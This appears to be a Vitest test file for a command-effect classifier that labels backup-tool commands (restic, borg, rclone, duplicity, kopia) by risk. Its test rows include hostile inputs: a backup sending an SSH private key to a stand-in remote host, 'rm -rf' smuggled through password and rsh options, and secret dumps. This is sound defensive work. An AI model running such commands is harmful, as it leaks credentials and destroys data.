import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['restic backup /home -r /mnt/backup', []],
  [
    'restic backup -r rest:http://h.example/x /root/.ssh/id_rsa',
    [
      'read:read /root/.ssh/id_rsa external sensitive',
      'network:send external sensitive',
      'network:send rest:http://h.example/x external sensitive',
    ],
  ],
  ["restic --password-command='rm -rf /srv' snapshots", ['delete:remove /srv recursive force']],
  ['restic restore latest -t /', ['write:overwrite / recursive']],
  ['restic forget --keep-last 3 --prune', ['storage:prune-backup']],
  ['restic forget -n --keep-last 3', []],
  ['restic snapshots', []],
  ['borg create ::x /home', []],
  ['borg create h:repo::x /etc', ['read:read /etc external', 'network:send-data external']],
  ["borg extract ::x --rsh 'rm -rf /srv'", ['delete:remove /srv recursive force']],
  ['borg delete ::x', ['storage:remove-backup ::x']],
  ['borg list', []],
  [
    'rclone copy /etc remote:x',
    ['read:read /etc external', 'network:send-data external', 'network:send-data remote external'],
  ],
  [
    'rclone sync a remote:x',
    [
      'read:read a external',
      'network:send external',
      'network:send remote external',
      'delete:mirror-remote remote:x recursive external',
    ],
  ],
  ['rclone purge remote:x', ['cloud:delete remote:x recursive']],
  ['rclone purge /srv', ['delete:remove /srv recursive']],
  ['rclone delete -n remote:x', []],
  ['rclone serve http .', ['network:serve-files http .']],
  ['rclone link remote:x', ['cloud:expose remote:x']],
  ['rclone config dump', ['cloud:list-secrets rclone']],
  ['rclone --no-check-certificate ls remote:', ['crypto:weaken rclone']],
  ['rclone lsd remote:', []],
  ['duplicity /etc scp://h/x', ['read:read /etc external', 'network:send-data external']],
  ['duplicity --no-encryption /srv file:///mnt', ['crypto:unencrypted-backup file:///mnt']],
  ['duplicity remove-older-than 1Y --force file:///mnt', ['storage:remove-backup file:///mnt']],
  ['kopia snapshot create /srv', []],
  ['kopia snapshot delete x', ['storage:remove-backup snapshot delete x']],
];

describe('backups', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
